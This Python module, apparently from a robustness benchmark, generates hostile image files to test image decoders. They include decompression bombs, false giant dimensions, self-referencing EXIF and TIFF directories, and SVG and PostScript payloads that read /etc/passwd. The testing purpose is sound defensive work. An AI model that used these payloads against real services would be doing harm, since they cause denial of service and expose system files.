"""Picture files that take far more to read than to send, as (name, bytes)."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Iterator

import numpy as np
from PIL import Image

from benchmarks.attacks.ground import picture

SIDE = 7000  # 49 megapixels, just below what is let in
SCANS = (800, 5000)


def hostile_pictures() -> Iterator[tuple[str, bytes]]:
    for scans in SCANS:
        yield f"progressive JPEG of {scans} scans, 8 megapixels", repeated_scans(scans, 2828)
    yield "progressive JPEG of 800 scans, 49 megapixels", repeated_scans(800, SIDE)
    yield "float TIFF of 49 megapixels", tiff("F")
    yield "integer TIFF of 49 megapixels", tiff("I")
    yield "PNG of 49 megapixels in 16 bits", png(SIDE, SIDE, depth=16)
    yield "PNG of 49 megapixels, transparent", png(SIDE, SIDE, colour=6)
    for name, side in (("4 gigapixels", 65_000), ("2 ** 31 - 1 a side", 2**31 - 1)):
        yield f"PNG that claims {name}", png_claim(side)
        yield f"BMP that claims {name}", bmp_claim(side)
        yield f"PPM that claims {name}", f"P6 {side} {side} 255\n".encode() + bytes(100)
        yield f"GIF that claims {min(side, 65535)}", gif_claim(min(side, 65535))
    yield "GIF of 3,000 frames", frames(3000)
    yield "PNG with a text that unpacks to 500 MB", png_text(500_000_000)
    yield "PNG with a header of 18 MB", png_chunk(b"eXIf", bytes(18_000_000))
    yield "JPEG with 18 MB of comments", commented(18_000_000)
    yield "JPEG with EXIF that leads to itself", exif_loop()
    yield "TIFF whose directories go round", tiff_loop()
    yield "TIFF of a million strips", tiff_strips(1_000_000)
    yield "WebP that claims 16383 a side", webp_claim(16383)
    yield "AVIF header and nothing", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(1000)
    yield "SVG", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
    yield (
        "PostScript",
        b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\n(/etc/passwd) (r) file\n",
    )
    yield "empty", b""
    yield "20 MB of nothing", bytes(20_000_000)
    yield "one byte", b"\xff"


def repeated_scans(count: int, side: int) -> bytes:
    """A grey progressive JPEG whose last scan is there that many times."""
    buffer = io.BytesIO()
    Image.new("L", (side, side), 128).save(buffer, "JPEG", progressive=True, quality=1)
    data = buffer.getvalue()
    last = data.rfind(b"\xff\xda")
    return data[:-2] + data[last:-2] * count + b"\xff\xd9"


def tiff(mode: str) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, (SIDE, SIDE)).save(buffer, "TIFF", compression="tiff_deflate")
    return buffer.getvalue()


def png(width: int, height: int, depth: int = 8, colour: int = 2) -> bytes:
    channels = {2: 3, 6: 4}[colour]
    row = bytes(1 + width * channels * depth // 8)
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    head = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return _png([(b"IHDR", head), (b"IDAT", packed), (b"IEND", b"")])


def png_claim(side: int) -> bytes:
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return _png([(b"IHDR", head), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b"")])


def png_text(size: int) -> bytes:
    packer = zlib.compressobj(9)
    packed = b"".join(packer.compress(bytes(1_000_000)) for _ in range(size // 1_000_000))
    return png_chunk(b"zTXt", b"note\0\0" + packed + packer.flush())


def png_chunk(kind: bytes, data: bytes) -> bytes:
    head = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(64 * (1 + 64 * 3)))
    return _png([(b"IHDR", head), (kind, data), (b"IDAT", rows), (b"IEND", b"")])


def _png(chunks: list[tuple[bytes, bytes]]) -> bytes:
    parts = [b"\x89PNG\r\n\x1a\n"]
    for kind, data in chunks:
        parts += [struct.pack(">I", len(data)), kind, data]
        parts.append(struct.pack(">I", zlib.crc32(kind + data)))
    return b"".join(parts)


def bmp_claim(side: int) -> bytes:
    head = struct.pack("<2sIHHI", b"BM", 1000, 0, 0, 54)
    return head + struct.pack("<IiiHHIIiiII", 40, side, side, 1, 24, 0, 0, 0, 0, 0, 0) + bytes(900)


def gif_claim(side: int) -> bytes:
    head = b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + bytes(6)
    return head + b"," + struct.pack("<HHHHB", 0, 0, side, side, 0) + b"\x02\x02L\x01\x00;"


def frames(count: int) -> bytes:
    first = Image.new("P", (500, 500))
    buffer = io.BytesIO()
    more = [Image.new("P", (500, 500), n % 250) for n in range(count)]
    first.save(buffer, "GIF", save_all=True, append_images=more)
    return buffer.getvalue()


def commented(size: int) -> bytes:
    data = picture((90, 90, 90), 1)
    piece = b"\xff\xfe\xff\xff" + bytes(65533)
    return data[:2] + piece * (size // len(piece)) + data[2:]


def exif_loop() -> bytes:
    """Orientation beside a pointer to the directory that it stands in."""
    entries = struct.pack("<HHHIHH", 2, 0x0112, 3, 1, 6, 0) + struct.pack("<HHII", 0x8769, 4, 1, 8)
    exif = b"Exif\0\0II*\0\x08\0\0\0" + entries + struct.pack("<I", 8)
    data = picture((90, 90, 90), 1)
    return data[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + data[2:]


def tiff_loop() -> bytes:
    buffer = io.BytesIO()
    Image.fromarray(np.zeros((64, 64, 3), np.uint8)).save(buffer, "TIFF")
    data = bytearray(buffer.getvalue())
    (at,) = struct.unpack_from("<I", data, 4)
    (count,) = struct.unpack_from("<H", data, at)
    struct.pack_into("<I", data, at + 2 + 12 * count, at)
    return bytes(data)


def tiff_strips(count: int) -> bytes:
    """A directory that names so many strips, one row each, all the same bytes."""
    offsets = struct.pack("<I", 8) * count
    at = 8 + len(offsets)
    tags = [(256, 4, 1, 8), (257, 4, 1, count), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
            (273, 4, count, 8), (277, 3, 1, 1), (278, 4, 1, 1), (279, 4, count, 8)]  # fmt: skip
    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    directory = struct.pack("<H", len(tags)) + entries + bytes(4)
    return struct.pack("<2sHI", b"II", 42, at) + offsets + directory


def webp_claim(side: int) -> bytes:
    flags = struct.pack("<I", 0) + struct.pack("<I", side - 1)[:3] * 2
    body = (
        b"WEBPVP8X" + struct.pack("<I", 10) + flags + b"VP8 " + struct.pack("<I", 100) + bytes(100)
    )
    return b"RIFF" + struct.pack("<I", len(body)) + body
